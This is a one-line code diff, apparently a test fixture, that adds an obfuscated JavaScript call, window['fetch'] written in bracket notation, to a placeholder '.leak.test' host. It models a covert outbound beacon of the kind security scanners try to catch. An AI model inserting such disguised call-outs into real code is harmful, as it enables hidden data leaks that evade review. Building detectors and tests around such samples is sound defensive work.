@@ -1,0 +1,1 @@
+window["fetch"]("https://js-fetch-bracket.leak.test/")
